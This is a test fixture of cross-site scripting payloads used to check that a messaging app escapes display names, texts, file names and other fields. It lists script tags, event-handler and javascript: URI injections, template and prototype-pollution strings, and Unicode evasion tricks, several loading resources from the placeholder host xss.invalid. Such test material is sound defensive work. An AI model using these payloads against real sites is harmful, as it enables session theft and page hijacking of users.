// Hostile strings for the XSS test. Every active payload, if it ever ran, would do at
// least one observable thing: open a dialog (alert), mark the DOM (data-xss attribute or
// body[data-xss]), or make a request to xss.invalid. Display names, texts,
// file names, sticker keywords and location titles all get them.

export const XSS_HOST = "xss.invalid";
const X = `http://${XSS_HOST}`;
const run = `alert(1);document.body.dataset.xss='ran';fetch('${X}/ran')`;

export const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<script>${run}</script>`,
  `<script src="${X}/s.js"></script>`,
  `<img src=x onerror="${run}" data-xss>`,
  `<img src="${X}/img.png" onerror=alert(document.cookie) data-xss>`,
  `<svg onload=alert(1) data-xss>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `javascript:alert(1)`,
  `<a href="javascript:alert(1)" data-xss>ここをクリック</a>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>" data-xss></iframe>`,
  `<iframe src="${X}/frame" data-xss></iframe>`,
  `<div style="background:url(${X}/bg.png)" data-xss>背景</div>`,
  `<div style="width: expression(alert(1))" data-xss>`,
  `<style>@import '${X}/a.css'; body{background:url(${X}/b.png)}</style>`,
  `<link rel=stylesheet href=${X}/l.css data-xss>`,
  `{{constructor.constructor('alert(1)')()}}`,
  `\${alert(1)} \${7*7} <%= 7*7 %> #{7*7} {{7*7}}`,
  `"><script>alert(1)</script>`,
  `'><img src=x onerror=alert(1) data-xss>`,
  `</textarea><script>alert(1)</script><textarea>`,
  `</title><script>alert(1)</script>`,
  `<body onload=alert(1) data-xss>`,
  `<input autofocus onfocus=alert(1) data-xss>`,
  `<details open ontoggle=alert(1) data-xss>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1) data-xss>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1) data-xss>">`,
  `<object data="javascript:alert(1)" data-xss></object>`,
  `<embed src="${X}/e.swf" data-xss>`,
  `<meta http-equiv="refresh" content="0;url=${X}/meta">`,
  `<base href="${X}/">`,
  `<form action="${X}/f"><button data-xss>送信</button></form>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;`,
  `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1) data-xss>`,
  `%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
  `<video><source onerror="alert(1)" data-xss></video>`,
  `<audio src=x onerror=alert(1) data-xss>`,
  `<img srcset="${X}/s.png 1x" data-xss>`,
  `<x onclick=alert(1) data-xss>クリック</x>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}`,
  // Unicode tricks.
  `\u202Egnp.exe<img src=x onerror=alert(1) data-xss>\u202C`, // right-to-left override
  `\u200F\u202Bمرحبا <svg onload=alert(1) data-xss> \u202C`, // RTL mark + embedding, Arabic
  `<scr\u200Bipt>alert(1)</scr\u200Bipt>`, // zero-width space inside the tag
  `＜script＞alert(1)＜/script＞`, // full-width brackets
  `Z̷̢̛̛a̶̡͝l̸̨̛g̵̢̛o̴̧͝ <img src=x onerror=alert(1) data-xss>`, // combining marks
  `👨‍👩‍👧‍👦🇯🇵<svg/onload=alert(1) data-xss>`, // ZWJ sequence, flag
  `\uFEFF\u2028\u2029<img src=x onerror=alert(1) data-xss>`, // BOM, line/paragraph separators
  `1行目\n<script>alert(1)</script>\n3行目`,
  `nul\u0000<img src=x onerror=alert(1) data-xss>`, // NUL
  // Very long strings (LINE's text limit is 5000 UTF-16 units).
  `<img src=x onerror=alert(1) data-xss>`.repeat(120),
  `予約`.repeat(2450) + `<svg onload=alert(1) data-xss>`,
];
